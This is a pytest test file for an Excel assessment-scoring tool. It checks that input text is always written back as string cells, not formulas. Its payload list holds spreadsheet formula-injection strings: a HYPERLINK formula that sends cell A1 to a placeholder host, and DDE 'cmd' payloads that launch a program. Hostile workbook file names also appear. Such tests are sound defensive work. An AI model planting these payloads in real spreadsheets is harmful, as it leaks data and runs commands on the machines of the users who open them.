"""Formula injection: text from input that we write into a workbook is text, never a formula.

Every workbook we write is read back as XML: a cell holding one of the payloads must be a
string cell (``t="s"`` or ``t="inlineStr"``) and no ``<f>`` element may carry a payload.
"""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pytest
from hostile_xlsx import Sheet, write_xlsx
from lxml import etree

from perf_excel.cli import main

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def hostile_workbook(path: Path) -> Path:
    """Unit names and codes, categories, indicator names, reasons and settings are payloads."""
    header = ["编码", "维度", "指标名称", "分值", "计分方法", "目标值"]
    units = [["编码", "名称", "类别"]]
    data = [["单位编码", "A1", "A2"]]
    for k, p in enumerate(PAYLOADS):
        units.append([f"U{k}", p, "=类别" if k % 2 else "区县"])
        data.append([f"U{k}", 90 + k, 80])
    units.append(["=CODE()", "单位=", "区县"])
    data.append(["=CODE()", 70, 75])
    return write_xlsx(
        path,
        [
            Sheet("设置", [["项目", "值"], ["考核名称", "=2025年度考核"], ["考核年度", 2025], ["发文机关", "+机关"]]),
            Sheet(
                "指标",
                [
                    header,
                    ["A1", "=维度", PAYLOADS[0], 60, "完成比例", 100],
                    ["A2", "-维度", "@指标", 40, "完成比例", 100],
                ],
            ),
            Sheet("单位", units),
            Sheet("数据", data),
            Sheet("加减分", [["单位编码", "类型", "分值", "事由"], ["U1", "加分", 1, PAYLOADS[1]]]),
            Sheet("否决", [["单位编码", "事项", "事由"], ["U2", "=事项", PAYLOADS[2]]]),
        ],
    )


def _shared_strings(z: zipfile.ZipFile) -> list[str]:
    names = [n for n in z.namelist() if n.endswith("sharedStrings.xml")]
    if not names:
        return []
    root = etree.fromstring(z.read(names[0]))
    return ["".join(si.itertext()) for si in root.findall("m:si", NS)]


def cells(path: Path) -> list[tuple[str, str, str | None, str, str | None]]:
    """Every cell of every worksheet: (part, ref, type, text, formula)."""
    out = []
    with zipfile.ZipFile(path) as z:
        shared = _shared_strings(z)
        for name in z.namelist():
            if not re.match(r"xl/worksheets/sheet\d+\.xml$", name):
                continue
            root = etree.fromstring(z.read(name))
            for c in root.iter(f"{{{NS['m']}}}c"):
                t = c.get("t")
                f = c.find("m:f", NS)
                v = c.find("m:v", NS)
                if t == "inlineStr":
                    inline = c.find("m:is", NS)
                    text = "".join(inline.itertext()) if inline is not None else ""
                elif t == "s" and v is not None:
                    text = shared[int(v.text)]
                else:
                    text = v.text if v is not None and v.text else ""
                out.append((name, c.get("r"), t, text, f.text if f is not None else None))
    return out


def assert_no_injection(path: Path, must_contain: list[str]) -> None:
    found = cells(path)
    formulas = [(p, r, f) for p, r, _, _, f in found if f is not None]
    assert formulas == [], f"{path.name}: formulas written: {formulas[:5]}"
    for part, ref, t, text, _ in found:
        if text.startswith(("=", "+", "-", "@", "\t", "\r")) and not re.fullmatch(r"-?[\d.]+(E[-+]?\d+)?", text):
            assert t in ("s", "inlineStr"), f"{path.name} {part} {ref}: {text!r} written as type {t!r}"
    texts = {text for *_, text, _ in found}
    # The texts may sit inside longer cells (an explanation), so look in every text.
    joined = "\n".join(texts)
    for payload in must_contain:
        assert payload.replace("\r", "") in joined.replace("\r", "") or payload in joined, f"{payload!r} not written"


@pytest.fixture()
def hostile(tmp_path: Path) -> Path:
    folder = tmp_path / "in"
    folder.mkdir()
    return hostile_workbook(folder / "考核表.xlsx")


def test_results_workbook(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "结果.xlsx"
    assert main(["score", str(hostile), "-o", str(out)]) == 0
    assert_no_injection(out, PAYLOADS[:4] + ["=CODE()", "=类别"])


def test_write_back(hostile: Path) -> None:
    assert main(["score", str(hostile), "--write-back"]) == 0
    assert_no_injection(hostile, PAYLOADS[:4] + ["=CODE()"])


def test_batch_summary(hostile: Path, tmp_path: Path) -> None:
    folder = hostile.parent
    (folder / "=HYPERLINK(1).xlsx").write_bytes(hostile.read_bytes())
    (folder / "-2+3.xlsx").write_bytes(b"PK\x03\x04 broken")  # a failure whose reason quotes the name
    out = tmp_path / "out"
    main(["batch", str(folder), "-o", str(out), "--results-only", "-j", "1", "-q"])
    assert_no_injection(out / "batch-summary.xlsx", ["=HYPERLINK(1).xlsx", "-2+3.xlsx"])
    for results in out.rglob("结果.xlsx"):
        assert_no_injection(results, PAYLOADS[:2])


def test_yearbook(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "年鉴"
    assert main(["yearbook", str(hostile), "-o", str(out)]) == 0
    (xlsx,) = out.glob("*.xlsx")
    assert_no_injection(xlsx, PAYLOADS[:4])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell(tmp_path: Path, payload: str) -> None:
    from openpyxl import Workbook

    from perf_excel.writer import safe_cell

    wb = Workbook(write_only=True)
    ws = wb.create_sheet("x")
    ws.append([safe_cell(ws, payload), safe_cell(ws, "控制\x01字符")])
    wb.save(tmp_path / "x.xlsx")
    (a, b) = cells(tmp_path / "x.xlsx")
    assert (a[2], a[4]) == ("inlineStr", None)
    assert a[3].replace("\r", "") == payload.replace("\r", "") or a[3] == payload
    assert b[3] == "控制字符"
